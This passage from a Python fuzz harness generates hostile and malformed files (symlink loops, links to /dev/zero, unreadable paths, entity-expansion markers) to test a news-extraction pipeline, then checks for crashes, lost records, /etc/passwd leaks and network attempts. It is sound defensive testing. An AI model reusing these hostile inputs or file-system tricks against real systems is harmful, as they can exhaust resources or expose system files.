        return Case("vanish" + rng.choice(SUFFIXES), "special", data=good, special="vanish", expect="error")
    if kind == "unreadable":
        return Case("unreadable" + rng.choice(SUFFIXES), "special", data=good, special="unreadable", expect="error")
    if kind == "unreadable_dir":
        return Case("locked_dir", "special", data=good, special="unreadable_dir", expect="error")
    if kind == "bad_name":
        return Case("bad_name.txt", "special", data=good, special="bad_name", expect="article",
                    must_contain=body[:25])
    return Case("link_to_good.txt", "special", data=good, special="link_to_good", expect="article",
                must_contain=body[:25])


FAMILIES = {
    "good": (fam_good, 1000),
    "binary": (fam_binary, 450),
    "invalid_utf8": (fam_invalid_utf8, 550),
    "control": (fam_control, 350),
    "empty": (fam_empty, 400),
    "long_line": (fam_long_line, 6),
    "deep_json": (fam_deep_json, 300),
    "wrong_types": (fam_wrong_types, 1000),
    "jsonl_mixed": (fam_jsonl_mixed, 600),
    "json_list_mixed": (fam_json_list_mixed, 250),
    "flood": (fam_flood, 2),
    "html_entities": (fam_html_entities, 400),
    "html_nested": (fam_html_nested, 150),
    "html_malformed": (fam_html_malformed, 1500),
    "unsupported": (fam_unsupported, 300),
    "odd_text": (fam_odd_text, 2003),
    "huge_valid": (fam_huge_valid, 9),
    "special": (fam_special, 730),
}
WEIGHTS = {name: weight for name, (_, weight) in FAMILIES.items()}


def iter_build(n: int = 10_000, seed: int = 20250603, *, families: list[str] | None = None,
               skip: tuple[str, ...] = ()) -> Iterator[Case]:
    """``n`` cases in the proportions of ``WEIGHTS`` (every family at least once), deterministic for a seed,
    made one at a time (the 10,000 hold 250 MB)."""
    names = [f for f in (families or list(FAMILIES)) if f not in skip]
    total = sum(WEIGHTS[f] for f in names)
    counts = {f: max(1, round(WEIGHTS[f] * n / total)) for f in names}
    while sum(counts.values()) > n and max(counts.values()) > 1:
        counts[max(counts, key=counts.get)] -= 1
    while sum(counts.values()) < n:
        counts[max(names, key=lambda f: WEIGHTS[f])] += 1
    uid = 0
    for fam in names:
        make = FAMILIES[fam][0]
        rng = random.Random(f"{seed}:{fam}")
        for _ in range(counts[fam]):
            uid += 1
            case = make(rng, uid)
            case.name = f"{uid:05d}_{case.name}"
            yield case


def build(n: int = 10_000, seed: int = 20250603, *, families: list[str] | None = None,
          skip: tuple[str, ...] = ()) -> list[Case]:
    """The cases of ``iter_build`` as a list."""
    return list(iter_build(n, seed, families=families, skip=skip))


# --- writing the cases ------------------------------------------------------------------------------------


@dataclass
class Layout:
    folder: Path
    paths: dict[str, str] = field(default_factory=dict)  # case name -> path as the walker shows it
    vanish: set[str] = field(default_factory=set)
    deny: set[str] = field(default_factory=set)
    deny_dirs: set[str] = field(default_factory=set)


def _shown(path: str | os.PathLike) -> str:
    text = os.fspath(path)
    return text.encode("utf-8", "surrogateescape").decode("utf-8", "backslashreplace")


def materialise(cases: Iterable[Case], folder: Path, *, good_only: bool = False) -> Layout:
    """Write the cases under ``folder`` (created). With ``good_only``, only the good content: good cases,
    and the good lines/items of mixed ones (the run every good article's records are compared with)."""
    folder.mkdir(parents=True, exist_ok=True)
    layout = Layout(folder)
    for case in cases:
        write_case(case, layout, good_only=good_only)
    return layout


def write_case(case: Case, layout: Layout, *, good_only: bool = False) -> None:
    """One case into ``layout.folder``, noted in the layout."""
    folder = layout.folder
    path = folder / case.name
    if good_only:
        if case.expect == "good" and case.special is None:
            path.write_bytes(case.data or b"")
        elif case.expect == "mixed":
            path.write_bytes(case.good or b"")
        else:
            return
        layout.paths[case.name] = _shown(path)
        return
    special = case.special
    if special is None:
        path.write_bytes(case.data or b"")
    elif special == "fifo":
        os.mkfifo(path)
    elif special == "dir_loop":
        sub = folder / (case.name + "_d")
        sub.mkdir()
        path = sub / "up"
        os.symlink("..", path)  # a folder link to its own parent
    elif special == "self_link":
        os.symlink(path.name, path)
    elif special == "broken_link":
        os.symlink(path.name + ".missing", path)
    elif special == "dev_link":
        os.symlink((case.data or b"/dev/zero").decode(), path)
    elif special in ("vanish", "unreadable", "link_to_good"):
        if special == "link_to_good":
            target = folder / (case.name + ".target")
            target.write_bytes(case.data or b"")
            target = target.rename(folder / ("." + target.name))  # hidden: read through the link only
            os.symlink(target.name, path)
        else:
            path.write_bytes(case.data or b"")
        if special == "vanish":
            layout.vanish.add(os.path.abspath(path))
        if special == "unreadable":
            os.chmod(path, 0)
            layout.deny.add(os.path.abspath(path))
    elif special == "unreadable_dir":
        path.mkdir()
        (path / "inside.txt").write_bytes(case.data or b"")
        os.chmod(path, 0)
        layout.deny_dirs.add(os.path.abspath(path))
    elif special == "bad_name":
        raw = os.fsencode(folder) + b"/" + case.name.encode()[:6] + b"_bad\xff\xfe_name.txt"
        fd = os.open(raw, os.O_WRONLY | os.O_CREAT, 0o644)
        os.write(fd, case.data or b"")
        os.close(fd)
        path = Path(os.fsdecode(raw))
    else:
        raise ValueError(special)
    layout.paths[case.name] = _shown(path)


def remove(folder: Path) -> None:
    """Remove a materialised folder (giving back permissions first)."""
    for root, dirs, _ in os.walk(folder):
        for d in dirs:
            full = os.path.join(root, d)
            if not os.path.islink(full):
                os.chmod(full, 0o755)
    for root, _, files in os.walk(folder):
        for f in files:
            full = os.path.join(root, f)
            if not os.path.islink(full) and stat.S_ISREG(os.lstat(full).st_mode):
                os.chmod(full, 0o644)
    shutil.rmtree(folder, ignore_errors=True)


@contextlib.contextmanager
def hostile_fs(layout: Layout) -> Iterator[None]:
    """Inside the block, a file of ``layout.vanish`` is removed at the moment it is opened (after the walk
    listed it), and the files and folders made unreadable refuse to open even for root, which
    ``chmod 000`` does not stop (so the same test holds for every user). Both ``os.open`` and ``io.open``
    (``open``, ``Path.open``, ``Path.read_bytes``) are watched, whichever the reader uses."""
    import builtins

    real_os_open, real_io_open, real_scandir = os.open, io.open, os.scandir

    def key(path: object) -> str | None:
        try:
            return os.path.abspath(os.fsdecode(os.fspath(path)))
        except TypeError:
            return None

    def before_open(path: object, reading: bool) -> None:
        k = key(path)
        if not reading or k is None:
            return
        if k in layout.vanish:
            with contextlib.suppress(FileNotFoundError):
                os.unlink(k)
        if k in layout.deny:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), os.fspath(path))

    def fake_os_open(path, flags, *args, **kwargs):
        before_open(path, not flags & (os.O_WRONLY | os.O_RDWR))
        return real_os_open(path, flags, *args, **kwargs)

    def fake_io_open(file, mode="r", *args, **kwargs):
        if not isinstance(file, int):
            before_open(file, not any(c in mode for c in "wax+"))
        return real_io_open(file, mode, *args, **kwargs)

    def fake_scandir(path="."):
        if key(path) in layout.deny_dirs:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), os.fspath(path))
        return real_scandir(path)

    os.open, io.open, builtins.open, os.scandir = fake_os_open, fake_io_open, fake_io_open, fake_scandir
    try:
        yield
    finally:
        os.open, io.open, builtins.open, os.scandir = real_os_open, real_io_open, real_io_open, real_scandir


# --- running and checking -----------------------------------------------------------------------------------


@dataclass
class RunResult:
    records: list[dict] = field(default_factory=list)  # read back from the records file
    errors: list[dict] = field(default_factory=list)  # read back from the errors file
    articles: dict[str, list[str]] = field(default_factory=dict)  # path -> article texts (first 2,000 characters)
    leaks: list[str] = field(default_factory=list)  # markers of /etc/passwd or expanded entities in an article
    crashes: list[str] = field(default_factory=list)  # tracebacks of exceptions that escaped
    log_text: str = ""  # everything logged (with tracebacks) and written to stderr
    seconds: dict[str, float] = field(default_factory=dict)  # path -> ingest + extraction CPU seconds
    ingest_seconds: dict[str, float] = field(default_factory=dict)  # path -> ingest CPU seconds
    raised_mb: dict[str, float] = field(default_factory=dict)  # path -> MB its ingest or extraction added to the peak
    total_seconds: float = 0.0
    peak_mb: float = 0.0  # ru_maxrss at the end of the run, before the outputs are read back

    @property
    def tracebacks(self) -> int:
        return self.log_text.count("Traceback") + sum(c.count("Traceback") for c in self.crashes)


class _Capture(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        try:
            self.lines.append(self.format(record))
        except Exception:  # noqa: BLE001 - a bad log record must not hide the run
            self.lines.append(f"unformattable log record from {record.name}")


def run_like_cli(pipe, inputs: list[str | os.PathLike], out: Path, progress=None) -> RunResult:
    """What ``sahel-extract run INPUTS -o OUT`` does (``Pipeline.process``, records and errors through the
    writers), timing each input: the CPU time of its ingest plus the extraction of its articles (exact with
    ``batch_size=1``, and not inflated by other processes on the machine; trafilatura is imported and warmed
    up first, so the first HTML page does not carry that cost). Any exception that escapes is caught, and all
    logging and stderr output kept. ``progress``, if given, is called with the item count every 1,000 items."""
    from sahel_extract.ingest import files as ingest_files
    from sahel_extract.ingest.readers import read_html
    from sahel_extract.pipeline import ArticleResult
    from sahel_extract.records import IngestError
    from sahel_extract.writers import JsonlWriter, writer_for

    read_html(html_page("Warm-up", "Gunmen killed four herders near Djibo on Tuesday.", "2025-03-04"))
    cpu = time.process_time
    result = RunResult()
    errors_path = out.with_name(out.stem + ".errors.jsonl")
    clock = {"ingest": 0.0}
    seconds: dict[str, float] = defaultdict(float)
    ingest: dict[str, float] = defaultdict(float)
    raised: dict[str, float] = defaultdict(float)
    peak = [resource.getrusage(resource.RUSAGE_SELF).ru_maxrss]
    real_read_file = ingest_files.read_file

    def note_peak(where: str) -> None:
        now = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        if now > peak[0]:
            raised[where] += (now - peak[0]) / 1024
            peak[0] = now

    def timed_read_file(path, max_bytes=ingest_files.DEFAULT_MAX_BYTES):
        inner = real_read_file(path, max_bytes)
        where = _shown(path)
        while True:
            t0 = cpu()
            try:
                item = next(inner)
            except StopIteration:
                item = None
            spent = cpu() - t0
            seconds[where] += spent
            ingest[where] += spent
            clock["ingest"] += spent
            note_peak(where)
            if item is None:
                return
            yield item

    markers = leak_markers()
    capture = _Capture()
    root = logging.getLogger()
    old_level = root.level
    root.addHandler(capture)
    root.setLevel(logging.WARNING)
    stderr = io.StringIO()
    ingest_files.read_file = timed_read_file
    start = time.perf_counter()
    try:
        with contextlib.redirect_stderr(stderr), writer_for(out) as records, JsonlWriter(errors_path) as bad:
            last, ingest_at_last = cpu(), 0.0
            for count, item in enumerate(pipe.process(inputs), 1):
                if progress is not None and count % 1000 == 0:
                    progress(count)
                now = cpu()
                extraction = max(0.0, (now - last) - (clock["ingest"] - ingest_at_last))
                last, ingest_at_last = now, clock["ingest"]
                if isinstance(item, IngestError):
                    bad.write(item)
                    continue
                assert isinstance(item, ArticleResult)
                where = item.article.path or "<text>"
                seconds[where] += extraction
                note_peak(where)
                result.articles.setdefault(where, []).append(item.article.text[:2000])
                result.leaks.extend(f"{where}: {m!r}" for m in markers if m in item.article.text)
                for record in item.records:
                    records.write(record)
    except Exception:  # noqa: BLE001 - this is what the harness counts
        result.crashes.append(traceback.format_exc())
    finally:
        result.total_seconds = time.perf_counter() - start
        result.peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        ingest_files.read_file = real_read_file
        root.removeHandler(capture)
        root.setLevel(old_level)
    result.log_text = "\n".join(capture.lines) + "\n" + stderr.getvalue()
    result.seconds, result.ingest_seconds, result.raised_mb = dict(seconds), dict(ingest), dict(raised)
    for path, target in ((out, result.records), (errors_path, result.errors)):
        if path.exists():
            with path.open(encoding="utf-8") as fh:
                target.extend(json.loads(line) for line in fh if line.strip())
    return result


def leak_markers() -> list[str]:
    """Strings that appear only if /etc/passwd was read or an entity expanded."""
    try:
        passwd = [ln for ln in Path("/etc/passwd").read_text(encoding="utf-8", errors="replace").splitlines()
                  if len(ln) > 12][:5]
    except OSError:
        passwd = []
    return [PASSWD_MARKERS[0], *passwd, "lol" * 9]


def _norm(record: dict) -> str:
    """A record without where it was read from (the good-only run reads the same articles elsewhere)."""
    source = dict(record.get("source") or {})
    source.pop("path", None)
    return json.dumps({**record, "source": source}, sort_keys=True)


@dataclass
class Report:
    inputs: int = 0
    crashes: int = 0
    tracebacks: int = 0
    good_articles: int = 0
    good_records: int = 0
    good_records_lost: int = 0
    error_records: int = 0
    unnamed_bad_inputs: list[str] = field(default_factory=list)
    unnamed_bad_lines: list[str] = field(default_factory=list)
    unread_articles: list[str] = field(default_factory=list)
    lost: list[str] = field(default_factory=list)
    leaks: list[str] = field(default_factory=list)
    slowest: list[tuple[float, str]] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return not (self.crashes or self.tracebacks or self.good_records_lost or self.unnamed_bad_inputs
                    or self.unnamed_bad_lines or self.unread_articles or self.leaks)

    def problems(self) -> str:
        parts = [f"{k}: {v[:10]}" for k, v in (
            ("unnamed bad inputs", self.unnamed_bad_inputs), ("unnamed bad lines", self.unnamed_bad_lines),
            ("unread articles", self.unread_articles), ("lost records", self.lost), ("leaks", self.leaks)) if v]
        return "; ".join(parts) or "none"


def check(cases: list[Case], layout: Layout, run: RunResult, good_run: RunResult, good_layout: Layout) -> Report:
    """The fuzz properties, as counts and lists of what broke them."""
    rep = Report(inputs=len(cases), crashes=len(run.crashes) + len(good_run.crashes),
                 tracebacks=run.tracebacks + good_run.tracebacks, error_records=len(run.errors))
    named: dict[str, list[dict]] = defaultdict(list)
    for err in run.errors:
        named[err["path"]].append(err)
    # every good record, identical but for the path, in the full run
    mixed = {_norm(r) for r in run.records}
    for record in good_run.records:
        rep.good_records += 1
        if _norm(record) not in mixed:
            rep.good_records_lost += 1
            rep.lost.append(f"{record['source'].get('path')}: {record['id']}")
    rep.good_articles = sum(len(v) for v in good_run.articles.values())
    good_paths = {layout.paths[name]: good_layout.paths[name] for name in good_layout.paths}
    for case in cases:
        where = layout.paths[case.name]
        errs = named.get(where, [])
        if case.special == "unreadable_dir":
            errs = errs or named.get(where + "/inside.txt", [])
        texts = run.articles.get(where, [])
        if case.expect == "error" and not (errs and all(e.get("reason") for e in errs)):
            rep.unnamed_bad_inputs.append(f"{case.name} ({case.family}): read as {len(texts)} articles")
        if case.expect == "mixed":
            lines = {e.get("line") for e in errs}
            missing = [n for n in case.bad_lines if n not in lines]
            if missing:
                rep.unnamed_bad_lines.append(f"{case.name}: lines {missing} not named")
        if case.expect in ("good", "mixed") and where in good_paths:
            expected = len(good_run.articles.get(good_paths[where], []))
            if len(texts) != expected:
                rep.unread_articles.append(f"{case.name}: {len(texts)} articles read, {expected} alone")
        if case.expect == "article" and not any(case.must_contain in t for t in texts):
            reasons = "; ".join(e.get("reason", "") for e in errs)[:200]
            rep.unread_articles.append(f"{case.name} ({case.family}): no article with {case.must_contain!r}"
                                       f" ({reasons})")
    # nothing of /etc/passwd and no expanded entity anywhere in what was written
    rep.leaks.extend(run.leaks)
    written = json.dumps(run.records) + json.dumps(run.errors)
    rep.leaks.extend(f"output: {m!r}" for m in leak_markers() if m in written)
    rep.slowest = sorted(((s, p) for p, s in run.seconds.items()), reverse=True)[:8]
    return rep


@contextlib.contextmanager
def no_network() -> Iterator[list[str]]:
    """Any attempt to connect a socket is recorded (and refused) inside the block."""
    import socket

    attempts: list[str] = []
    real = socket.socket.connect, socket.socket.connect_ex, socket.create_connection

    def refuse(self, address, *args):
        attempts.append(repr(address))
        raise OSError(errno.ENETUNREACH, "network disabled by the fuzz harness")

    def refuse_create(address, *args, **kwargs):
        attempts.append(repr(address))
        raise OSError(errno.ENETUNREACH, "network disabled by the fuzz harness")

    socket.socket.connect, socket.socket.connect_ex, socket.create_connection = refuse, refuse, refuse_create
    try:
        yield attempts
    finally:
        socket.socket.connect, socket.socket.connect_ex, socket.create_connection = real


def fuzz(pipe, cases: Iterable[Case], workdir: Path, progress=None) -> tuple[Report, RunResult]:
    """Materialise (both trees case by case, keeping no file contents in memory), run everything and the good
    inputs alone, check."""
    layout, good_layout = Layout(workdir / "in"), Layout(workdir / "good")
    layout.folder.mkdir(parents=True, exist_ok=True)
    good_layout.folder.mkdir(parents=True, exist_ok=True)
    light: list[Case] = []
    for case in cases:
        write_case(case, layout)
        write_case(case, good_layout, good_only=True)
        light.append(replace(case, data=None, good=None))
    try:
        with no_network() as attempts:
            with hostile_fs(layout):
                run = run_like_cli(pipe, [layout.folder], workdir / "out" / "attacks.jsonl", progress)
            good_run = run_like_cli(pipe, [good_layout.folder], workdir / "out_good" / "attacks.jsonl", progress)
    finally:
        remove(workdir / "in")
        remove(workdir / "good")
    rep = check(light, layout, run, good_run, good_layout)
    rep.leaks.extend(f"network: {a}" for a in attempts)
    return rep, run


# --- hypothesis strategies ------------------------------------------------------------------------------------

try:
    from hypothesis import strategies as st
except ImportError:  # pragma: no cover - the benchmark runs without hypothesis
    st = None

if st is not None:
    json_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True, allow_infinity=True),
                             st.text(max_size=40))
    json_values = st.recursive(json_scalars, lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.sampled_from(
            ["text", "maintext", "title", "published", "date_publish", "url", "source", "body", "x"]),
            inner, max_size=5)), max_leaves=12)
    article_objects = st.fixed_dictionaries({}, optional={
        "text": st.one_of(st.text(max_size=200), json_scalars, st.lists(st.text(max_size=5), max_size=2)),
        "maintext": json_scalars, "title": json_values, "published": json_values, "date_publish": json_values,
        "url": json_values, "source_domain": json_values})
    byte_soup = st.one_of(
        st.binary(max_size=2000),
        st.text(max_size=500).map(lambda s: s.encode("utf-8", "surrogatepass")),
        st.lists(st.sampled_from([b"{", b"}", b"[", b"]", b'"text"', b":", b",", b'"a"', b"NaN", b"1e999", b"\\u0000",
                                  b"\\ud800", b"\n", b"\xff", b"\x00", b"---\n", b"title: x\n", b"\n\n", b"null",
                                  b"9" * 50]), max_size=60).map(b"".join),
        st.lists(st.sampled_from([s.encode() for s in SOUP] + [b"Gunmen killed four herders. ", b"<article>",
                                                               b"<p>", b"</article>", b"<html>", b"&lol;"]),
                 max_size=80).map(b"".join))
    suffixes = st.sampled_from(SUFFIXES + [".htm", ".markdown"])


def main() -> None:  # pragma: no cover - a quick look at the families
    cases = build(int(sys.argv[1]) if len(sys.argv) > 1 else 10_000)
    per: dict[str, int] = defaultdict(int)
    size = 0
    for case in cases:
        per[case.family] += 1
        size += len(case.data or b"")
    print(dict(per), f"{size / 1e6:.1f} MB")


if __name__ == "__main__":  # pragma: no cover
    main()
